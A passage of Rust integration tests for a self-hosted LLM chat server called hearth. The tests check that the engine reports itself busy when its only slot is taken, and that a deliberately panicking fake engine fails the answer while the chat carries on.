    let engine = test_engine(hearth::llm::EngineConfig {
        model_path: "SmolLM2-135M-Instruct.Q4_1.gguf".into(),
        fallback_model: None,
        threads: 2,
        parallel: 1,
        context_per_chat: 2048,
        batch: 512,
        max_queue: 4,
        max_wait: Duration::from_secs(1),
    });
    engine.wait_until_settled(Duration::from_secs(60)).await;
    use hearth::llm::{EngineError, Event, Message, Request, Role, Sampling};
    let request = |max_tokens| Request {
        messages: vec![Message::new(Role::User, "Tell me a very long story.")],
        sampling: Sampling {
            temperature: 0.0,
            max_tokens,
            ignore_eos: true,
            ..Sampling::default()
        },
        grammar: None,
    };
    let mut long = engine.generate(request(1500)).unwrap();
    // The long answer has the only slot.
    while let Some(event) = long.events.recv().await {
        if matches!(event, Event::Text(_)) {
            break;
        }
    }
    let asked = std::time::Instant::now();
    let mut waiting = engine.generate(request(8)).unwrap();
    let outcome = loop {
        match waiting.events.recv().await {
            Some(Event::Failed(err)) => break Some(err),
            Some(Event::Finished(_)) | None => break None,
            Some(_) => {}
        }
    };
    assert_eq!(outcome, Some(EngineError::Busy), "told it is busy");
    assert!(
        asked.elapsed() < Duration::from_secs(4),
        "told early: {:?}",
        asked.elapsed()
    );
    drop(long);
    engine.shutdown();
}

/// A step of the engine that breaks (a panic in the model thread) fails the
/// answer in flight, which is stored as failed; the admin page says what
/// happened, and the next message is answered. Always the scripted engine,
/// which can be told to break.
#[tokio::test]
async fn a_broken_engine_step_fails_the_answer_and_chat_goes_on() {
    let data_dir = tempfile::tempdir().unwrap();
    let config = hearth::config::Config {
        data_dir: data_dir.path().to_path_buf(),
        ..hearth::config::Config::default()
    };
    let script = hearth::llm::FakeScript {
        panic_on: Some("BREAK".into()),
        ..hearth::llm::FakeScript::default()
    };
    let server =
        TestServer::start_with_engine(config, data_dir, |c| hearth::llm::Engine::fake(c, script))
            .await;
    server
        .state
        .chat
        .engine
        .wait_until_settled(Duration::from_secs(10))
        .await;
    let owner = server.client();
    owner.setup(&server.setup_code(), "olivia").await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    let ask = |content: &'static str| {
        api.request(
            Method::POST,
            &format!("/api/v1/conversations/{id}/messages"),
        )
        .json(&json!({ "content": content }))
        .send()
    };
    let answer: Value = ask("Please BREAK now").await.unwrap().json().await.unwrap();
    assert_eq!(answer["status"], "failed", "{answer}");

    let (_, html) = owner.page("/admin/models").await;
    let state = select_text(&html, "#engine-state");
    assert!(
        state.contains("is answering") && state.contains("restarted"),
        "{state}"
    );
    let answer: Value = ask("Hello again").await.unwrap().json().await.unwrap();
    assert_eq!(answer["status"], "done", "{answer}");
    assert!(answer["content"].as_str().unwrap().contains("test engine"));
}
